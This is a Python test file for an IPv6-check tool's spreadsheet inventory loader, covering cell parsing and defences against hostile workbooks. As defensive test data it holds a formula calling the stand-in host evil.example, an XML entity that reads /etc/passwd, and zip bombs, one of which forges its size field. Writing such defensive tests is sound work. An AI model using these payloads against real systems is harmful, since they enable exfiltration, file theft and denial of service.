"""Workbooks: cells as a spreadsheet stores them, and archives that are not what they seem."""

import io
import struct
import sys
import zipfile
from datetime import datetime

import xlsxwriter

from ipv6check.inventory.load import open_inventory


def workbook(rows, *, hidden_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        if hidden_first:
            first = book.add_worksheet("notes")
            first.write(0, 0, "nothing")
        sheet = book.add_worksheet("hosts")
        if hidden_first:
            sheet.activate()
            sheet.set_first_sheet()
            first.hide()
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if isinstance(value, datetime):
                    sheet.write_datetime(r, c, value, day)
                elif isinstance(value, tuple):
                    sheet.write_formula(r, c, value[0], None, value[1])
                elif value is not None:
                    sheet.write(r, c, value)
    return buffer.getvalue()


def archive(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in entries.items():
            out.writestr(name, content)
    return buffer.getvalue()


def test_cells_become_text_as_people_see_them(write) -> None:
    rows = [
        ["", "", ""],
        ["Tên", "Loại", "Tên miền", "Cổng", "document", "signer", "attestation date", "Cơ quan"],
        ["Thư", None, "mail.example", 25.0, None, None, None, "Sở Y tế"],
        ["ERP", "phần mềm", None, None, 17, "S", datetime(2026, 3, 1), ("=H3", "Sở Y tế")],
    ]
    mail, erp = open_inventory(write("a.xlsx", workbook(rows, hidden_first=True)))
    assert [target.key for target in mail.targets] == ["tcp://mail.example:25"]
    assert (erp.attestation.document, str(erp.attestation.date)) == ("17", "2026-03-01")
    assert erp.agency == mail.agency == "so-y-te"
    assert (mail.origin.line, erp.origin.line) == (3, 4)


def test_errors_and_odd_ports_name_their_row(write, errors) -> None:
    rows = [
        ["host", "port"],
        ["a.example", 443.5],
        [("=1/0", "#DIV/0!"), None],
        ["b.example", 70000],
        ["c.example", 25],
    ]
    assert errors(write("a.xlsx", workbook(rows))) == [
        "a.xlsx:2: the port '443.5' is not a whole number from 1 to 65535",
        "a.xlsx:3: holds an error in A3",
        "a.xlsx:4: the port '70000' is not a whole number from 1 to 65535",
    ]


def test_a_formula_is_never_run_or_kept(write, errors) -> None:
    rows = [["host", "agency"], ["a.example", ('=WEBSERVICE("http://evil.example/")', "A")]]
    inventory = open_inventory(write("a.xlsx", workbook(rows)))
    assert [agency.name("en") for agency in inventory.agencies.values()] == ["A"]


def test_no_archive(write, errors) -> None:
    for content in (b"domain\na.example\n", b"", b"PK\x03\x04 cut", b"\xd0\xcf\x11\xe0 old format"):
        assert errors(write("a.xlsx", content)) == ["a.xlsx: is not an XLSX workbook, or it is damaged or encrypted"]


def test_an_archive_without_a_workbook(write, errors) -> None:
    assert "is not a readable XLSX workbook" in errors(write("a.xlsx", archive({"a.txt": b"x"})))[0]


def test_a_bomb_is_not_unpacked(write, errors) -> None:
    bomb = archive({"xl/worksheets/sheet1.xml": b"\0" * (64 << 20)})
    assert len(bomb) < 100_000
    assert errors(write("a.xlsx", bomb)) == ["a.xlsx: unpacks to far more than its size (a zip bomb)"]


def test_a_bomb_that_lies_about_its_size_is_found_too(write, errors) -> None:
    size = 64 << 20
    bomb = archive({"xl/worksheets/sheet1.xml": b"\0" * size}).replace(struct.pack("<I", size), struct.pack("<I", 100))
    assert errors(write("a.xlsx", bomb)) == ["a.xlsx: unpacks to far more than its size (a zip bomb)"]


def test_too_many_parts(write, errors) -> None:
    assert "more than 1000 parts" in errors(write("a.xlsx", archive({f"{n}.xml": b"" for n in range(1001)})))[0]


def test_entities_are_refused(write, errors) -> None:
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    assert errors(write("a.xlsx", archive({"xl/workbook.xml": entity}))) == [
        "a.xlsx: declares a document type or entities, which no spreadsheet needs"
    ]


def test_without_the_extra_one_sentence_tells_what_to_install(write, errors, monkeypatch) -> None:
    path = write("a.xlsx", workbook([["host"], ["a.example"]]))
    # None in sys.modules is how Python itself marks a module that cannot be imported.
    monkeypatch.setitem(sys.modules, "python_calamine", None)
    told = errors(path)
    assert len(told) == 1
    assert "pip install 'ipv6check[xlsx]'" in told[0]
